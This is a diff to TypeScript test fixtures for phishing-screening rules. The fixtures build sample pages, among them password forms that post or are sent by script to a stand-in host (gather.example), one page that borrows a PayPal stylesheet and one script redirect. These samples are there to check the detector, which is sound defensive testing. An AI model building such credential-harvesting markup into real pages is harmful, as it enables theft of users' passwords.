@@ -2,7 +2,7 @@ import { rules } from "@surename/adapters/screening-rules"
 import type { Rule } from "@surename/adapters/screening-rules"
 import type { GivenDraft } from "./given-draft.ts"
 import { site } from "./innocent-site.ts"
-import { nested } from "./rule-cases.ts"
+import { nested, sentByScript } from "./rule-cases.ts"
 
 type Page = Parameters<Rule["sees"]>[0]
 type Marks = Page["of"]
@@ -25,7 +25,7 @@ export const rulesWithout = (kind: string): ReadonlyArray<Rule> => {
 }
 
 const ours = "Ferry tickets to Skerry"
-const secretElsewhere = `<form action="https://gather.example/"><input type="password"></form>`
+const secretElsewhere = sentByScript("https://gather.example/", `<input type="password">`)
 
 const gather = site(
   "sends to an address of a list",
@@ -39,7 +39,7 @@ export const markCases: ReadonlyArray<readonly [kind: string, draft: GivenDraft]
   stylesheet: site(
     "borrows a style",
     "Ferry tickets to Skerry",
-    `<link rel="stylesheet" href="https://www.paypalobjects.com/a.css"><h1>Ferry tickets</h1><form action="https://gather.example/next.php"><input type="password"></form>`,
+    `<link rel="stylesheet" href="https://www.paypalobjects.com/a.css"><h1>Ferry tickets to Skerry</h1>${sentByScript("https://gather.example/next.php", `<input type="password">`)}`,
   ),
   jump: site("goes on by script", "DHL Tracking", `<script>location="https://gather.example/"</script>`),
   address: gather,
